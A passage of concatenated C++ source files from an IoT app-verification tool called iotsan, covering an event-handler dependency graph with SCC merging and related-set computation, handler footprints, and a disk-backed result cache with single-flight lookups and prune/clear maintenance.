PatternFootprint FootprintOf(const ir::HandlerInfo& handler);

}  // namespace iotsan::deps
