// App Dependency Analyzer (paper §5).
//
// Builds the directed dependency graph over event handlers: an edge
// u -> v exists when u's output events overlap v's input events.
// Strongly connected components are merged into composite vertices.
// From the graph it derives *related sets* — the groups of handlers the
// model checker must co-analyze:
//   1. the initial related set of each leaf is the leaf plus all its
//      ancestors;
//   2. sets of vertices with conflicting outputs (switch/on vs
//      switch/off) are merged;
//   3. sets subsumed by a superset are dropped.
// The reduction from "all handlers" to "largest related set" is the
// scale ratio reported in the paper's Table 7a.
#pragma once

#include <span>
#include <string>
#include <vector>

#include "ir/analyzed_app.hpp"

namespace iotsan::deps {

/// Reference to one event handler of one app.
struct HandlerRef {
  int app = 0;      // index into the app span given to Build
  int handler = 0;  // index into that app's handlers
  bool operator==(const HandlerRef&) const = default;
};

/// A vertex of the dependency graph.  After SCC merging a vertex may be
/// composite (multiple handlers); its interface is the union of members'.
struct Vertex {
  std::vector<HandlerRef> members;
  std::vector<ir::EventPattern> inputs;
  std::vector<ir::EventPattern> outputs;
};

class DependencyGraph {
 public:
  /// Builds the graph over all handlers of `apps` (§5).  Matching is done
  /// on event types (attribute/value), as in the paper.
  static DependencyGraph Build(std::span<const ir::AnalyzedApp> apps);

  const std::vector<Vertex>& vertices() const { return vertices_; }
  const std::vector<std::vector<int>>& children() const { return children_; }
  const std::vector<std::vector<int>>& parents() const { return parents_; }

  /// Vertices with no children.
  std::vector<int> Leaves() const;

  /// All ancestors of `vertex` plus the vertex itself, sorted.
  std::vector<int> AncestorClosure(int vertex) const;

  /// Graphviz rendering for inspection.
  std::string ToDot(std::span<const ir::AnalyzedApp> apps) const;

 private:
  std::vector<Vertex> vertices_;
  std::vector<std::vector<int>> children_;
  std::vector<std::vector<int>> parents_;
};

/// One related set: vertex ids plus the distinct apps they span.
struct RelatedSet {
  std::vector<int> vertices;  // sorted vertex ids
  std::vector<int> apps;      // sorted distinct app indices
  int handler_count = 0;      // total handlers across vertices
};

/// Computes the final related sets (steps 1-3 above).
std::vector<RelatedSet> ComputeRelatedSets(const DependencyGraph& graph);

/// Scale statistics for one app group (paper Table 7a).
struct ScaleStats {
  int original_size = 0;  // total number of event handlers
  int new_size = 0;       // handlers in the largest related set
  double ratio = 0;       // original / new
};

ScaleStats ComputeScaleStats(std::span<const ir::AnalyzedApp> apps);

}  // namespace iotsan::deps
