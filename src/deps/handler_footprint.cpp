#include "deps/handler_footprint.hpp"

namespace iotsan::deps {

bool IsWildcardPattern(const ir::EventPattern& pattern) {
  return pattern.scope == ir::EventScope::kDevice && pattern.input.empty() &&
         pattern.attribute.empty();
}

PatternFootprint FootprintOf(const ir::HandlerInfo& handler) {
  PatternFootprint fp;
  fp.touches_app_state = handler.touches_app_state;
  fp.creates_timer = handler.creates_timer;
  for (const ir::EventPattern& input : handler.inputs) {
    // kTime / kAppTouch trigger patterns carry no shared state; device and
    // mode inputs are genuine reads.
    if (input.scope == ir::EventScope::kDevice ||
        input.scope == ir::EventScope::kLocationMode) {
      fp.reads.push_back(input);
    }
  }
  for (const ir::EventPattern& output : handler.outputs) {
    if (IsWildcardPattern(output)) {
      fp.unknown = true;
      continue;
    }
    fp.writes.push_back(output);
  }
  return fp;
}

}  // namespace iotsan::deps
