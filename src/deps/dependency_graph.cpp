#include "deps/dependency_graph.hpp"

#include <algorithm>
#include <functional>
#include <set>

#include "telemetry/telemetry.hpp"

namespace iotsan::deps {

namespace {

/// Tarjan's strongly-connected-components algorithm (iterative form not
/// needed: handler graphs are small).
class Tarjan {
 public:
  explicit Tarjan(const std::vector<std::vector<int>>& adjacency)
      : adjacency_(adjacency),
        index_(adjacency.size(), -1),
        lowlink_(adjacency.size(), 0),
        on_stack_(adjacency.size(), false),
        component_(adjacency.size(), -1) {}

  /// Returns component id per node; ids are assigned in reverse
  /// topological order of the condensation.
  std::vector<int> Run() {
    for (std::size_t v = 0; v < adjacency_.size(); ++v) {
      if (index_[v] < 0) Strongconnect(static_cast<int>(v));
    }
    return component_;
  }

  int component_count() const { return component_count_; }

 private:
  const std::vector<std::vector<int>>& adjacency_;
  std::vector<int> index_;
  std::vector<int> lowlink_;
  std::vector<bool> on_stack_;
  std::vector<int> component_;
  std::vector<int> stack_;
  int next_index_ = 0;
  int component_count_ = 0;

  void Strongconnect(int v) {
    index_[v] = lowlink_[v] = next_index_++;
    stack_.push_back(v);
    on_stack_[v] = true;
    for (int w : adjacency_[v]) {
      if (index_[w] < 0) {
        Strongconnect(w);
        lowlink_[v] = std::min(lowlink_[v], lowlink_[w]);
      } else if (on_stack_[w]) {
        lowlink_[v] = std::min(lowlink_[v], index_[w]);
      }
    }
    if (lowlink_[v] == index_[v]) {
      while (true) {
        int w = stack_.back();
        stack_.pop_back();
        on_stack_[w] = false;
        component_[w] = component_count_;
        if (w == v) break;
      }
      ++component_count_;
    }
  }
};

void AddUniquePattern(std::vector<ir::EventPattern>& list,
                      const ir::EventPattern& pattern) {
  for (const ir::EventPattern& existing : list) {
    if (existing == pattern) return;
  }
  list.push_back(pattern);
}

bool AnyOverlap(const std::vector<ir::EventPattern>& outputs,
                const std::vector<ir::EventPattern>& inputs) {
  for (const ir::EventPattern& out : outputs) {
    for (const ir::EventPattern& in : inputs) {
      if (in.Overlaps(out)) return true;
    }
  }
  return false;
}

bool AnyConflict(const std::vector<ir::EventPattern>& a,
                 const std::vector<ir::EventPattern>& b) {
  for (const ir::EventPattern& x : a) {
    for (const ir::EventPattern& y : b) {
      if (x.ConflictsWith(y)) return true;
    }
  }
  return false;
}

}  // namespace

DependencyGraph DependencyGraph::Build(
    std::span<const ir::AnalyzedApp> apps) {
  // Flat handler table.
  std::vector<HandlerRef> handlers;
  for (std::size_t a = 0; a < apps.size(); ++a) {
    for (std::size_t h = 0; h < apps[a].handlers.size(); ++h) {
      handlers.push_back({static_cast<int>(a), static_cast<int>(h)});
    }
  }
  auto handler_of = [&apps](const HandlerRef& ref) -> const ir::HandlerInfo& {
    return apps[ref.app].handlers[ref.handler];
  };

  // Raw edges u -> v when outputs(u) overlap inputs(v).  Self-loops are
  // kept (they form singleton SCCs with a cycle, merged below).
  const std::size_t n = handlers.size();
  std::vector<std::vector<int>> raw(n);
  for (std::size_t u = 0; u < n; ++u) {
    for (std::size_t v = 0; v < n; ++v) {
      if (u == v) continue;
      if (AnyOverlap(handler_of(handlers[u]).outputs,
                     handler_of(handlers[v]).inputs)) {
        raw[u].push_back(static_cast<int>(v));
      }
    }
  }

  // SCC merge.
  Tarjan tarjan(raw);
  std::vector<int> component = tarjan.Run();
  const int vertex_count = tarjan.component_count();

  DependencyGraph graph;
  graph.vertices_.resize(vertex_count);
  graph.children_.resize(vertex_count);
  graph.parents_.resize(vertex_count);

  // Keep vertex numbering stable with handler declaration order: remap
  // component ids by first appearance.
  std::vector<int> remap(vertex_count, -1);
  int next_id = 0;
  std::vector<int> vertex_of(n);
  for (std::size_t i = 0; i < n; ++i) {
    int& id = remap[component[i]];
    if (id < 0) id = next_id++;
    vertex_of[i] = id;
  }

  for (std::size_t i = 0; i < n; ++i) {
    Vertex& vertex = graph.vertices_[vertex_of[i]];
    vertex.members.push_back(handlers[i]);
    for (const ir::EventPattern& in : handler_of(handlers[i]).inputs) {
      AddUniquePattern(vertex.inputs, in);
    }
    for (const ir::EventPattern& out : handler_of(handlers[i]).outputs) {
      AddUniquePattern(vertex.outputs, out);
    }
  }

  std::set<std::pair<int, int>> edges;
  for (std::size_t u = 0; u < n; ++u) {
    for (int v : raw[u]) {
      int cu = vertex_of[u];
      int cv = vertex_of[static_cast<std::size_t>(v)];
      if (cu == cv) continue;
      if (edges.insert({cu, cv}).second) {
        graph.children_[cu].push_back(cv);
        graph.parents_[cv].push_back(cu);
      }
    }
  }
  if (auto* t = telemetry::Active()) {
    t->pipeline.dependency_edges += edges.size();
  }
  return graph;
}

std::vector<int> DependencyGraph::Leaves() const {
  std::vector<int> leaves;
  for (std::size_t v = 0; v < vertices_.size(); ++v) {
    if (children_[v].empty()) leaves.push_back(static_cast<int>(v));
  }
  return leaves;
}

std::vector<int> DependencyGraph::AncestorClosure(int vertex) const {
  std::set<int> seen;
  std::function<void(int)> visit = [&](int v) {
    if (!seen.insert(v).second) return;
    for (int parent : parents_[v]) visit(parent);
  };
  visit(vertex);
  return {seen.begin(), seen.end()};
}

std::string DependencyGraph::ToDot(
    std::span<const ir::AnalyzedApp> apps) const {
  std::string out = "digraph deps {\n";
  for (std::size_t v = 0; v < vertices_.size(); ++v) {
    std::string label;
    for (const HandlerRef& ref : vertices_[v].members) {
      if (!label.empty()) label += "\\n";
      label += apps[ref.app].app.name + "." +
               apps[ref.app].handlers[ref.handler].name;
    }
    out += "  v" + std::to_string(v) + " [label=\"" + std::to_string(v) +
           ": " + label + "\"];\n";
  }
  for (std::size_t u = 0; u < children_.size(); ++u) {
    for (int v : children_[u]) {
      out += "  v" + std::to_string(u) + " -> v" + std::to_string(v) + ";\n";
    }
  }
  out += "}\n";
  return out;
}

std::vector<RelatedSet> ComputeRelatedSets(const DependencyGraph& graph) {
  std::vector<std::vector<int>> sets;

  // Step 1: initial related set per leaf (ancestor closure).
  for (int leaf : graph.Leaves()) {
    sets.push_back(graph.AncestorClosure(leaf));
  }

  // Step 2: merge closures of vertices with conflicting outputs.
  const auto& vertices = graph.vertices();
  for (std::size_t u = 0; u < vertices.size(); ++u) {
    for (std::size_t v = u + 1; v < vertices.size(); ++v) {
      if (!AnyConflict(vertices[u].outputs, vertices[v].outputs)) continue;
      std::vector<int> merged = graph.AncestorClosure(static_cast<int>(u));
      std::vector<int> other = graph.AncestorClosure(static_cast<int>(v));
      merged.insert(merged.end(), other.begin(), other.end());
      std::sort(merged.begin(), merged.end());
      merged.erase(std::unique(merged.begin(), merged.end()), merged.end());
      sets.push_back(std::move(merged));
    }
  }

  // Step 3: drop duplicates and subsets.
  std::vector<std::vector<int>> kept;
  for (const std::vector<int>& candidate : sets) {
    bool subsumed = false;
    for (const std::vector<int>& other : sets) {
      if (&candidate == &other) continue;
      if (candidate.size() > other.size()) continue;
      const bool subset = std::includes(other.begin(), other.end(),
                                        candidate.begin(), candidate.end());
      if (subset && (candidate.size() < other.size() || &candidate > &other)) {
        subsumed = true;
        break;
      }
    }
    if (!subsumed) kept.push_back(candidate);
  }

  std::vector<RelatedSet> result;
  for (std::vector<int>& vertex_ids : kept) {
    RelatedSet set;
    set.vertices = std::move(vertex_ids);
    std::set<int> apps;
    for (int v : set.vertices) {
      for (const HandlerRef& ref : graph.vertices()[v].members) {
        apps.insert(ref.app);
        ++set.handler_count;
      }
    }
    set.apps.assign(apps.begin(), apps.end());
    result.push_back(std::move(set));
  }
  if (auto* t = telemetry::Active()) {
    t->pipeline.related_sets += result.size();
  }
  return result;
}

ScaleStats ComputeScaleStats(std::span<const ir::AnalyzedApp> apps) {
  ScaleStats stats;
  for (const ir::AnalyzedApp& app : apps) {
    stats.original_size += static_cast<int>(app.handlers.size());
  }
  DependencyGraph graph = DependencyGraph::Build(apps);
  for (const RelatedSet& set : ComputeRelatedSets(graph)) {
    stats.new_size = std::max(stats.new_size, set.handler_count);
  }
  if (stats.new_size > 0) {
    stats.ratio =
        static_cast<double>(stats.original_size) / stats.new_size;
  }
  return stats;
}

}  // namespace iotsan::deps
