#include "cache/result_cache.hpp"

#include <chrono>
#include <condition_variable>
#include <filesystem>

#include "telemetry/telemetry.hpp"
#include "util/build_info.hpp"
#include "util/error.hpp"
#include "util/fs.hpp"
#include "util/log.hpp"

namespace iotsan::cache {

namespace fs = std::filesystem;

namespace {

/// True when `result` is a pure function of its key: budget-stopped
/// runs depend on wall clock, and multi-lane bitstate searches race on
/// bit insertions (the omission set differs run to run) — neither may
/// be replayed from the cache (docs/caching.md).
bool Storable(const checker::CheckResult& result, unsigned effective_jobs) {
  if (!result.completed) return false;
  if (result.store_fill_ratio > 0 && effective_jobs > 1) return false;
  return true;
}

/// Estimated heap bytes one memoized entry holds resident: the key
/// text, the violation traces (the dominant term for violating
/// groups), and the fixed struct overhead.  An estimate, not an exact
/// allocator measurement — it only has to make the
/// memory.cache_resident_bytes gauge track growth and eviction.
std::uint64_t ApproxEntryBytes(const std::string& key_text,
                               const checker::CheckResult& result) {
  std::uint64_t bytes = sizeof(checker::CheckResult) + key_text.size();
  bytes += result.depth_histogram.size() * sizeof(std::uint64_t);
  bytes += result.worker_states_explored.size() * sizeof(std::uint64_t);
  for (const checker::Violation& v : result.violations) {
    bytes += sizeof(checker::Violation);
    bytes += v.property_id.size() + v.category.size() +
             v.description.size() + v.detail.size() + v.failure.size();
    for (const std::string& app : v.apps) bytes += app.size();
    for (const std::string& app : v.model_apps) bytes += app.size();
    for (const checker::TraceStep& step : v.steps) {
      bytes += sizeof(checker::TraceStep);
      bytes += step.kind.size() + step.device.size() +
               step.attribute.size() + step.value.size() + step.app.size();
    }
  }
  return bytes;
}

void PublishResidentBytes(std::uint64_t bytes) {
  if (auto* t = telemetry::Active()) t->memory.cache_resident_bytes = bytes;
}

}  // namespace

// ---- Entry serialization -----------------------------------------------------

json::Value EntryToJson(const GroupKey& key, const std::string& version,
                        const checker::CheckResult& result) {
  json::Object doc;
  doc["schema"] = kCacheSchema;
  doc["version"] = version;
  doc["key"] = key.Hex();
  doc["key_text"] = key.text;
  json::Object res;
  json::Array violations;
  for (const checker::Violation& v : result.violations) {
    violations.push_back(checker::ViolationToJson(v));
  }
  res["violations"] = std::move(violations);
  res["states_explored"] = static_cast<std::int64_t>(result.states_explored);
  res["states_matched"] = static_cast<std::int64_t>(result.states_matched);
  res["transitions"] = static_cast<std::int64_t>(result.transitions);
  res["cascade_drains"] = static_cast<std::int64_t>(result.cascade_drains);
  res["completed"] = result.completed;
  // The original compute time: a warm run reports the same per-group
  // seconds the cold run measured, so aggregated reports stay
  // byte-identical across cold and warm runs.
  res["seconds"] = result.seconds;
  res["store_fill_ratio"] = result.store_fill_ratio;
  res["est_omission_probability"] = result.est_omission_probability;
  res["store_entries"] = static_cast<std::int64_t>(result.store_entries);
  res["store_memory_bytes"] =
      static_cast<std::int64_t>(result.store_memory_bytes);
  res["store_bytes_per_state"] = result.store_bytes_per_state;
  res["compress_pool_entries"] =
      static_cast<std::int64_t>(result.compress_pool_entries);
  res["compress_pool_bytes"] =
      static_cast<std::int64_t>(result.compress_pool_bytes);
  res["compress_lookups"] = static_cast<std::int64_t>(result.compress_lookups);
  res["compress_hits"] = static_cast<std::int64_t>(result.compress_hits);
  json::Array depths;
  for (std::uint64_t count : result.depth_histogram) {
    depths.push_back(static_cast<std::int64_t>(count));
  }
  res["depth_histogram"] = std::move(depths);
  doc["result"] = std::move(res);
  return doc;
}

checker::CheckResult EntryFromJson(const json::Value& doc,
                                   const GroupKey& key,
                                   const std::string& version) {
  if (doc.GetString("schema") != kCacheSchema) {
    throw Error("cache entry: wrong schema '" + doc.GetString("schema") +
                "' (want '" + kCacheSchema + "')");
  }
  if (doc.GetString("version") != version) {
    throw Error("cache entry: recorded by version '" +
                doc.GetString("version") + "', this is '" + version + "'");
  }
  if (doc.GetString("key_text") != key.text) {
    // A 64-bit digest collision (or a hand-edited file): the entry is
    // for a different group; serving it would be silently wrong.
    throw Error("cache entry: key document mismatch (digest collision)");
  }
  const json::Value& res = doc.At("result");
  checker::CheckResult result;
  for (const json::Value& v : res.At("violations").AsArray()) {
    result.violations.push_back(checker::ViolationFromJson(v));
  }
  result.states_explored =
      static_cast<std::uint64_t>(res.GetNumber("states_explored"));
  result.states_matched =
      static_cast<std::uint64_t>(res.GetNumber("states_matched"));
  result.transitions =
      static_cast<std::uint64_t>(res.GetNumber("transitions"));
  result.cascade_drains =
      static_cast<std::uint64_t>(res.GetNumber("cascade_drains"));
  result.completed = res.GetBool("completed", true);
  result.seconds = res.GetNumber("seconds");
  result.store_fill_ratio = res.GetNumber("store_fill_ratio");
  result.est_omission_probability =
      res.GetNumber("est_omission_probability");
  result.store_entries =
      static_cast<std::uint64_t>(res.GetNumber("store_entries"));
  result.store_memory_bytes =
      static_cast<std::uint64_t>(res.GetNumber("store_memory_bytes"));
  // COLLAPSE diagnostics arrived after the schema froze; entries written
  // before them read back with the fields zeroed.
  if (res.Has("store_bytes_per_state")) {
    result.store_bytes_per_state = res.GetNumber("store_bytes_per_state");
  }
  if (res.Has("compress_pool_entries")) {
    result.compress_pool_entries =
        static_cast<std::uint64_t>(res.GetNumber("compress_pool_entries"));
    result.compress_pool_bytes =
        static_cast<std::uint64_t>(res.GetNumber("compress_pool_bytes"));
    result.compress_lookups =
        static_cast<std::uint64_t>(res.GetNumber("compress_lookups"));
    result.compress_hits =
        static_cast<std::uint64_t>(res.GetNumber("compress_hits"));
  }
  if (res.Has("depth_histogram")) {
    for (const json::Value& count : res.At("depth_histogram").AsArray()) {
      result.depth_histogram.push_back(
          static_cast<std::uint64_t>(count.AsNumber()));
    }
  }
  return result;
}

// ---- ResultCache -------------------------------------------------------------

struct ResultCache::InFlight {
  std::string key_text;
  std::mutex mutex;
  std::condition_variable cv;
  bool done = false;    // leader published a result
  bool failed = false;  // leader threw; a waiter must take over
  checker::CheckResult result;
};

ResultCache::ResultCache(CacheConfig config) : config_(std::move(config)) {
  version_ = config_.version.empty() ? build::GetBuildInfo().version
                                     : config_.version;
  if (!config_.dir.empty()) fs::create_directories(config_.dir);
}

std::string ResultCache::EntryPath(const GroupKey& key) const {
  return config_.dir + "/" + key.Hex() + ".json";
}

std::optional<checker::CheckResult> ResultCache::LookupMemory(
    const GroupKey& key) {
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = index_.find(key.digest);
  if (it == index_.end()) return std::nullopt;
  if (it->second->key_text != key.text) return std::nullopt;  // collision
  lru_.splice(lru_.begin(), lru_, it->second);  // touch
  return it->second->result;
}

std::optional<checker::CheckResult> ResultCache::LookupDisk(
    const GroupKey& key) {
  if (config_.dir.empty()) return std::nullopt;
  const std::string path = EntryPath(key);
  const std::string text = util::ReadFileOrEmpty(path);
  if (text.empty()) return std::nullopt;
  auto* t = telemetry::Active();
  try {
    checker::CheckResult result =
        EntryFromJson(json::Parse(text), key, version_);
    if (t != nullptr) t->cache.bytes_read += text.size();
    return result;
  } catch (const Error& e) {
    // Corrupt, truncated, stale, or colliding entry: a miss, never an
    // error — the subsequent Store overwrites it with a good one.
    if (t != nullptr) ++t->cache.corrupt_entries;
    util::LogDebug("cache", "unreadable entry treated as miss",
                   {{"path", path}, {"reason", e.what()}});
    return std::nullopt;
  }
}

std::optional<checker::CheckResult> ResultCache::Lookup(const GroupKey& key) {
  auto* t = telemetry::Active();
  if (t != nullptr) ++t->cache.lookups;
  // Lookup latency splits by outcome: a hit's cost covers the memory
  // probe plus any disk read + promote; a miss is the probe overhead a
  // fresh check pays before it even starts.
  const auto lookup_start = std::chrono::steady_clock::now();
  auto elapsed_us = [&lookup_start] {
    return static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::microseconds>(
            std::chrono::steady_clock::now() - lookup_start)
            .count());
  };
  if (auto hit = LookupMemory(key)) {
    if (t != nullptr) {
      ++t->cache.hits;
      ++t->cache.hits_memory;
      t->cache_hist.lookup_hit_duration_us.Record(elapsed_us());
    }
    return hit;
  }
  if (auto hit = LookupDisk(key)) {
    StoreMemory(key, *hit);  // promote
    if (t != nullptr) {
      ++t->cache.hits;
      ++t->cache.hits_disk;
      t->cache_hist.lookup_hit_duration_us.Record(elapsed_us());
    }
    return hit;
  }
  if (t != nullptr) {
    ++t->cache.misses;
    t->cache_hist.lookup_miss_duration_us.Record(elapsed_us());
  }
  return std::nullopt;
}

void ResultCache::StoreMemory(const GroupKey& key,
                              const checker::CheckResult& result) {
  if (config_.memory_entries == 0) return;
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = index_.find(key.digest);
  if (it != index_.end()) {
    resident_bytes_ -= ApproxEntryBytes(it->second->key_text,
                                        it->second->result);
    it->second->key_text = key.text;
    it->second->result = result;
    resident_bytes_ += ApproxEntryBytes(key.text, result);
    lru_.splice(lru_.begin(), lru_, it->second);
    PublishResidentBytes(resident_bytes_);
    return;
  }
  lru_.push_front({key.digest, key.text, result});
  index_[key.digest] = lru_.begin();
  resident_bytes_ += ApproxEntryBytes(key.text, result);
  while (lru_.size() > config_.memory_entries) {
    resident_bytes_ -= ApproxEntryBytes(lru_.back().key_text,
                                        lru_.back().result);
    index_.erase(lru_.back().digest);
    lru_.pop_back();
    if (auto* t = telemetry::Active()) ++t->cache.evictions;
  }
  PublishResidentBytes(resident_bytes_);
}

std::uint64_t ResultCache::resident_bytes() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return resident_bytes_;
}

void ResultCache::StoreDisk(const GroupKey& key,
                            const checker::CheckResult& result) {
  if (config_.dir.empty()) return;
  const std::string entry =
      EntryToJson(key, version_, result).Dump(0) + "\n";
  // Atomic tmp+rename (util::AtomicWriteFile); an unwritable cache dir
  // degrades to a silent no-op.
  if (!util::AtomicWriteFile(EntryPath(key), entry)) return;
  if (auto* t = telemetry::Active()) t->cache.bytes_written += entry.size();
}

void ResultCache::Store(const GroupKey& key,
                        const checker::CheckResult& result,
                        unsigned effective_jobs) {
  auto* t = telemetry::Active();
  if (!Storable(result, effective_jobs)) {
    if (t != nullptr) ++t->cache.store_skips;
    return;
  }
  StoreMemory(key, result);
  StoreDisk(key, result);
  if (t != nullptr) ++t->cache.stores;
}

checker::CheckResult ResultCache::FetchOrCompute(
    const GroupKey& key, unsigned effective_jobs,
    const std::function<checker::CheckResult()>& compute) {
  for (;;) {
    if (auto hit = Lookup(key)) return *hit;
    std::shared_ptr<InFlight> flight;
    bool leader = false;
    {
      std::lock_guard<std::mutex> lock(flight_mutex_);
      auto it = in_flight_.find(key.digest);
      if (it == in_flight_.end()) {
        flight = std::make_shared<InFlight>();
        flight->key_text = key.text;
        in_flight_[key.digest] = flight;
        leader = true;
      } else {
        flight = it->second;
      }
    }
    if (!leader) {
      if (flight->key_text != key.text) {
        // Digest collision with a different in-flight group: compute
        // without memoizing rather than wait on an unrelated key.
        return compute();
      }
      if (auto* t = telemetry::Active()) ++t->cache.singleflight_waits;
      std::unique_lock<std::mutex> lock(flight->mutex);
      flight->cv.wait(lock, [&] { return flight->done || flight->failed; });
      if (flight->done) return flight->result;
      continue;  // leader threw: retry (possibly becoming the leader)
    }
    checker::CheckResult result;
    try {
      result = compute();
    } catch (...) {
      {
        std::lock_guard<std::mutex> lock(flight_mutex_);
        in_flight_.erase(key.digest);
      }
      {
        std::lock_guard<std::mutex> lock(flight->mutex);
        flight->failed = true;
      }
      flight->cv.notify_all();
      throw;
    }
    Store(key, result, effective_jobs);
    {
      std::lock_guard<std::mutex> lock(flight_mutex_);
      in_flight_.erase(key.digest);
    }
    {
      std::lock_guard<std::mutex> lock(flight->mutex);
      flight->done = true;
      flight->result = result;
    }
    flight->cv.notify_all();
    return result;
  }
}

// ---- Maintenance -------------------------------------------------------------

namespace {

enum class EntryState { kCurrent, kStale, kCorrupt };

EntryState ClassifyEntry(const fs::path& path, const std::string& version) {
  const std::string text = util::ReadFileOrEmpty(path.string());
  if (text.empty()) return EntryState::kCorrupt;
  try {
    const json::Value doc = json::Parse(text);
    if (doc.GetString("schema") != kCacheSchema) return EntryState::kCorrupt;
    if (!doc.Has("key") || !doc.Has("key_text") || !doc.Has("result")) {
      return EntryState::kCorrupt;
    }
    if (doc.GetString("version") != version) return EntryState::kStale;
    return EntryState::kCurrent;
  } catch (const Error&) {
    return EntryState::kCorrupt;
  }
}

DirStats WalkDir(const std::string& dir, const std::string& version,
                 bool remove_stale, bool remove_all) {
  DirStats stats;
  std::error_code ec;
  for (const fs::directory_entry& entry : fs::directory_iterator(dir, ec)) {
    if (!entry.is_regular_file()) continue;
    const fs::path& path = entry.path();
    if (path.extension() != ".json") continue;
    stats.bytes += entry.file_size(ec);
    const EntryState state = ClassifyEntry(path, version);
    bool remove = remove_all;
    switch (state) {
      case EntryState::kCurrent: ++stats.entries; break;
      case EntryState::kStale:
        ++stats.stale;
        remove = remove || remove_stale;
        break;
      case EntryState::kCorrupt:
        ++stats.corrupt;
        remove = remove || remove_stale;
        break;
    }
    if (remove && fs::remove(path, ec)) ++stats.removed;
  }
  return stats;
}

}  // namespace

DirStats ResultCache::Scan(const std::string& dir,
                           const std::string& version) {
  return WalkDir(dir, version, /*remove_stale=*/false, /*remove_all=*/false);
}

DirStats ResultCache::Prune(const std::string& dir,
                            const std::string& version) {
  return WalkDir(dir, version, /*remove_stale=*/true, /*remove_all=*/false);
}

DirStats ResultCache::Clear(const std::string& dir) {
  return WalkDir(dir, /*version=*/"", /*remove_stale=*/false,
                 /*remove_all=*/true);
}

}  // namespace iotsan::cache
