// Incremental analysis cache: content-addressed, disk-backed memoization
// of per-group verification results.
//
// The dependency analyzer (paper §5) already guarantees that apps in
// different related sets cannot interact — so a group's CheckResult is a
// pure function of the group key (cache/fingerprint.hpp).  This store
// memoizes those results across runs: re-checking an unchanged
// deployment becomes a handful of cache reads, and reconfiguring one
// app re-verifies only the groups that contain it.
//
// Two layers, both keyed by the group fingerprint:
//   * an in-memory LRU (bounded entry count) serving repeats within a
//     process — attribution probes re-enumerate the same app-alone
//     groups across configurations, which this layer absorbs;
//   * an optional disk store (`CacheConfig::dir`): one JSON file per
//     entry named <digest-hex>.json, schema "iotsan.cache/1", written
//     via temp-file + atomic rename.  Corrupt, truncated, stale-version,
//     or digest-colliding entries are treated as misses, never errors.
//
// Concurrency: all public methods are thread-safe.  FetchOrCompute is
// single-flight per key — when parallel related-set groups (or parallel
// attribution configs) race on one key, one caller computes while the
// rest wait and reuse its result, so `--jobs N` never duplicates work.
#pragma once

#include <cstdint>
#include <functional>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>

#include "cache/fingerprint.hpp"
#include "checker/checker.hpp"

namespace iotsan::cache {

/// Schema identifier embedded in every cache entry.
inline constexpr const char* kCacheSchema = "iotsan.cache/1";

struct CacheConfig {
  /// Disk store directory; empty = in-memory only.
  std::string dir;
  /// In-memory LRU capacity (entries); 0 disables the memory layer.
  std::size_t memory_entries = 256;
  /// Version baked into keys and entries.  Empty = the build version;
  /// tests override it to exercise version invalidation.
  std::string version;
};

/// Aggregate over a cache directory (the `iotsan cache` subcommand).
struct DirStats {
  std::uint64_t entries = 0;  // readable entries with the current schema
  std::uint64_t bytes = 0;    // total size of all entry files
  std::uint64_t stale = 0;    // entries recorded by another version
  std::uint64_t corrupt = 0;  // unreadable / wrong-schema entries
  std::uint64_t removed = 0;  // files deleted (prune/clear)
};

class ResultCache {
 public:
  explicit ResultCache(CacheConfig config);

  /// The memoized result for `key`, or nullopt.  Checks the memory LRU,
  /// then disk; a disk hit is promoted into the LRU.  Ticks cache.*
  /// telemetry.
  std::optional<checker::CheckResult> Lookup(const GroupKey& key);

  /// Memoizes `result` under `key` (memory + disk).  Results that are
  /// not a pure function of the key are refused and counted as
  /// cache.store_skips: budget-stopped runs (wall-clock dependent) and
  /// bitstate searches on multiple lanes (racy bit insertions make the
  /// omission set nondeterministic).  `effective_jobs` is the resolved
  /// lane count of the run that produced `result`.
  void Store(const GroupKey& key, const checker::CheckResult& result,
             unsigned effective_jobs);

  /// Single-flight memoized call: Lookup, else run `compute` and Store.
  /// Concurrent callers with the same key wait for the first's result
  /// instead of recomputing (cache.singleflight_waits).  If the leader
  /// throws, one waiter takes over the computation.
  checker::CheckResult FetchOrCompute(
      const GroupKey& key, unsigned effective_jobs,
      const std::function<checker::CheckResult()>& compute);

  const CacheConfig& config() const { return config_; }

  /// Estimated heap footprint of the in-memory LRU layer, in bytes —
  /// the value published to the memory.cache_resident_bytes gauge on
  /// every store/eviction.
  std::uint64_t resident_bytes() const;

  /// The version string keys are minted with (config override or the
  /// build version).
  const std::string& version() const { return version_; }

  // ---- Maintenance (CLI `iotsan cache stats|prune|clear`) ----

  /// Scans `dir` without modifying it.
  static DirStats Scan(const std::string& dir, const std::string& version);
  /// Deletes corrupt and stale-version entries; keeps current ones.
  static DirStats Prune(const std::string& dir, const std::string& version);
  /// Deletes every cache entry file in `dir`.
  static DirStats Clear(const std::string& dir);

 private:
  struct InFlight;

  std::optional<checker::CheckResult> LookupMemory(const GroupKey& key);
  std::optional<checker::CheckResult> LookupDisk(const GroupKey& key);
  void StoreMemory(const GroupKey& key, const checker::CheckResult& result);
  void StoreDisk(const GroupKey& key, const checker::CheckResult& result);
  std::string EntryPath(const GroupKey& key) const;

  CacheConfig config_;
  std::string version_;

  // Memory layer: digest -> (key text, result), LRU-ordered list with a
  // map index.  Guarded by mutex_.
  struct MemoryEntry {
    std::uint64_t digest = 0;
    std::string key_text;
    checker::CheckResult result;
  };
  mutable std::mutex mutex_;
  std::list<MemoryEntry> lru_;  // front = most recent
  std::map<std::uint64_t, std::list<MemoryEntry>::iterator> index_;
  std::uint64_t resident_bytes_ = 0;  // estimated LRU heap footprint

  // Single-flight table: digest -> in-flight computation.
  std::mutex flight_mutex_;
  std::map<std::uint64_t, std::shared_ptr<InFlight>> in_flight_;
};

/// JSON round-trip for one cache entry (exposed for tests and the
/// maintenance commands).  FromJson throws iotsan::Error on wrong
/// schema/version or malformed structure.
json::Value EntryToJson(const GroupKey& key, const std::string& version,
                        const checker::CheckResult& result);
checker::CheckResult EntryFromJson(const json::Value& doc,
                                   const GroupKey& key,
                                   const std::string& version);

}  // namespace iotsan::cache
