#include "cache/fingerprint.hpp"

#include <cstdio>

#include "util/build_info.hpp"
#include "util/hash.hpp"

namespace iotsan::cache {

namespace {

const char* SchedulingName(model::Scheduling scheduling) {
  return scheduling == model::Scheduling::kConcurrent ? "concurrent"
                                                      : "sequential";
}

const char* StoreName(checker::StoreKind store) {
